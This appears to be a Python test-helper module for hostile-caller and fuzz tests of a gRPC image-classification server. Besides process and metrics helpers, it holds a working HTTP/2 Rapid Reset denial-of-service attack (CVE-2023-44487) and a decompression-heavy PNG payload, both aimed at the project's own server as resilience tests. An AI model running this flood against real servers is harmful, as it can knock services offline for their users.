"""What the hostile-caller tests and the fuzz suite share: server process figures, attack payloads."""

from __future__ import annotations

import functools
import io
import select
import socket
import threading
import time
import urllib.request
from dataclasses import dataclass
from pathlib import Path

import grpc
import numpy as np
from PIL import Image

CLOCK_TICKS = 100  # os.sysconf("SC_CLK_TCK") on Linux


def rss_mb(pid: int) -> float:
    """Resident memory of a process, in MiB (VmRSS)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError(f"no VmRSS for process {pid}")


def cpu_seconds(pid: int) -> float:
    """User + system CPU time a process has used so far."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLOCK_TICKS


def metrics_text(port: int) -> str:
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=30) as response:
        return response.read().decode()


def tiny_png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (1, 1), (200, 30, 40)).save(buffer, "PNG")
    return buffer.getvalue()


@functools.lru_cache(maxsize=2)
def big_png(side: int = 6000) -> bytes:
    """A side x side RGB PNG (36 Mpx at 6000) that is small on the wire (~0.8 MB) and slow to decode."""
    ramp = (np.add.outer(np.arange(side), np.arange(side)) % 256).astype(np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(np.stack([ramp, ramp[::-1], ramp.T], axis=-1)).save(buffer, "PNG", compress_level=1)
    return buffer.getvalue()


def raw_call(channel: grpc.Channel, method: str, body: bytes, timeout: float = 30) -> grpc.StatusCode:
    """Send raw bytes as a unary request body (no protobuf on this side); the status code answered."""
    call = channel.unary_unary(method, request_serializer=None, response_deserializer=None)
    try:
        call(body, timeout=timeout)
        return grpc.StatusCode.OK
    except grpc.RpcError as err:
        return err.code()

def code_of(call, *args, **kwargs) -> grpc.StatusCode:
    """The status a call ends with (OK when it returns)."""
    try:
        call(*args, **kwargs)
        return grpc.StatusCode.OK
    except grpc.RpcError as err:
        return err.code()


def wait_until(condition, timeout: float) -> bool:
    """Poll `condition` until it holds (True) or `timeout` seconds pass (False)."""
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.01)
    return True


@dataclass
class RapidResetResult:
    """What one rapid-reset connection achieved before it stopped or was told to go away."""

    streams: int = 0  # HEADERS + RST_STREAM pairs sent
    goaway: bool = False  # the server sent GOAWAY
    goaway_after_streams: int = 0
    goaway_error: str = ""
    closed: bool = False  # the server closed the connection (with or without a GOAWAY read first)
    seconds: float = 0.0


def rapid_reset(host: str, port: int, seconds: float, path: str = "/headswap.v1.Inference/Classify",
                batch: int = 200, stop: threading.Event | None = None) -> RapidResetResult:
    """CVE-2023-44487: open streams and reset each at once (HEADERS + RST_STREAM(CANCEL)), on one
    connection, as fast as the socket takes them, for `seconds` or until the server sends GOAWAY.
    A raw HTTP/2 client (the h2 package): grpc's own client never sends this."""
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events
    import h2.exceptions

    result = RapidResetResult()
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", f"{host}:{port}"),
               ("content-type", "application/grpc"), ("te", "trailers")]
    started = time.monotonic()
    sock.setblocking(False)
    try:
        while time.monotonic() - started < seconds and not (stop and stop.is_set()) and not result.goaway:
            try:
                for _ in range(batch):
                    stream_id = conn.get_next_available_stream_id()
                    conn.send_headers(stream_id, headers)
                    conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                    result.streams += 1
            except (h2.exceptions.ProtocolError, h2.exceptions.TooManyStreamsError):
                break  # the connection is closing: no new streams
            data = conn.data_to_send()
            while data:
                try:
                    sent = sock.send(data)
                    data = data[sent:]
                except BlockingIOError:
                    _read_events(sock, conn, result, wait=0.01)
                except OSError:
                    result.closed = True
                    return _finish(result, started)
            _read_events(sock, conn, result, wait=0)
        _read_events(sock, conn, result, wait=0.2)
    finally:
        sock.close()
    return _finish(result, started)


def _finish(result: RapidResetResult, started: float) -> RapidResetResult:
    result.seconds = time.monotonic() - started
    return result


def _read_events(sock: socket.socket, conn, result: RapidResetResult, wait: float) -> None:
    """Feed what the server sent into h2 (and answer its pings); note a GOAWAY."""
    import h2.events

    ready, _, _ = select.select([sock], [], [], wait)
    while ready:
        try:
            data = sock.recv(1 << 20)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            result.closed = True
            return
        try:
            events = conn.receive_data(data)
        except Exception:  # noqa: BLE001 - a protocol error from a closing server ends the attack
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated) and not result.goaway:
                result.goaway, result.goaway_after_streams = True, result.streams
                result.goaway_error = f"{event.error_code!r} {event.additional_data!r}"
        ready, _, _ = select.select([sock], [], [], 0)
